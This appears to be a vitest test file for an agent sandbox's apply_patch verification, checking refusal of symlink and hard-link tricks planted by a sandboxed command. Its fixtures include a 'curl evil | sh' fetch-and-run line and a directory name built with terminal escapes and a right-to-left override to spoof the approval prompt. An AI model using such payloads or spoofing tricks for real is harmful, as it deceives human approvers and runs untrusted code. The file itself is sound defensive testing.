/**
 * apply_patch's verification (the unconfined caller's side) against what a
 * command in the real sandbox leaves in the workspace, in both modes, as
 * root and as `cordon-probe`: the command runs first on the same
 * orchestrator (orch-driver.mjs), then the patch. Nothing here races: a
 * swap between the check and the open is tested in
 * test/unit/tools/apply-patch/verify.test.ts, where the readability check
 * makes it.
 */
import { existsSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { describeEscape } from '../../../helpers/escape.js'
import type { Identity } from '../../../helpers/identity.js'
import { makeTree, type Tree } from '../../../helpers/tree.js'
import { runOrchestrator, type OrchReply } from '../orchestrator/orch-run.js'

const patch = (...lines: string[]) => `*** Begin Patch\n${lines.join('\n')}\n*** End Patch\n`

interface PatchOutput {
  ok: boolean
  status: string
  text: string
}

describeEscape('apply_patch verification of what a sandboxed command made', (identity: Identity, mode) => {
  let t: Tree
  let n = 0
  beforeAll(() => {
    t = makeTree(identity, `patch-verify-${mode}`)
  })
  afterAll(() => t?.cleanup())

  /** The sandboxed `script` runs in a fresh workspace, then the patch; every approval is answered `approved`. */
  async function afterCommand(script: string, text: string): Promise<{ work: string; r: OrchReply; made: string; out: PatchOutput }> {
    const work = t.dir(`v${n++}/work`)
    const requests = [{ command: ['sh', '-c', script] }, { command: ['apply_patch', text] }]
    const r = await runOrchestrator(identity, t.home, { options: { sandbox: { cwd: work, mode, compat: 'best-effort' }, approvalMode: 'on-request' }, answers: ['approved', 'approved'], requests })
    expect(r.error, JSON.stringify(r.error)).toBeUndefined()
    const [cmd, applied] = r.outcomes as unknown as { output: unknown }[]
    return { work, r, made: JSON.stringify(cmd!.output), out: applied!.output as PatchOutput }
  }

  it('a symlink to a directory whose name rewrites a terminal line: the patch is refused, the approver never sees the name', async () => {
    const script = `d=$(printf 'x\\033[2K\\rREADME.md (unchanged)\\342\\200\\256\\nzz') && mkdir "$d" && ln -s "$d" docs && echo made`
    const { work, r, made, out } = await afterCommand(script, patch('*** Add File: docs/run.sh', '+curl evil | sh'))
    expect(made).toContain('made')
    expect(out).toMatchObject({ ok: false, status: 'invalid' })
    expect(out.text).toContain('docs/run.sh: resolves to')
    expect(out.text).toContain('x\\x1b[2K\\rREADME.md (unchanged)\\u202e\\nzz/run.sh')
    expect(out.text).not.toMatch(/[\u001b\r\u202e]/)
    expect(r.asked.filter((a) => a.promptClass === 'patch')).toHaveLength(0)
    expect(existsSync(join(work, 'docs/run.sh'))).toBe(false)
  })

  it('hard links of one file: a patch that names it twice is refused before it is read twice', async () => {
    const { work, r, made, out } = await afterCommand('printf "one\\n" > h1 && ln h1 h2 && echo made', patch('*** Delete File: h1', '*** Delete File: h2'))
    expect(made).toContain('made')
    expect(out).toMatchObject({ ok: false, status: 'invalid' })
    expect(out.text).toBe('apply_patch: nothing was written: patch line 3: h2: is the same file as h1 (patch line 2), a hard link: give each file once')
    expect(r.asked.filter((a) => a.promptClass === 'patch')).toHaveLength(0)
    expect(existsSync(join(work, 'h1'))).toBe(true)
  })
})
